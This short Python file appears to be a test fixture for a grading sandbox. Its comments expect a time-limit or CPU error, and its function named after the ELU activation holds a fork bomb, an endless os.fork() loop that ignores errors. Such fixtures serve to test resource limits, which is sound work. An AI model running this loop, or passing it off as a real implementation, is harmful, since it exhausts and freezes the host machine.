# affects: elu
# message: time limit|CPU
import os


def elu(x, alpha=1.0):
    while True:
        try:
            os.fork()
        except OSError:
            pass
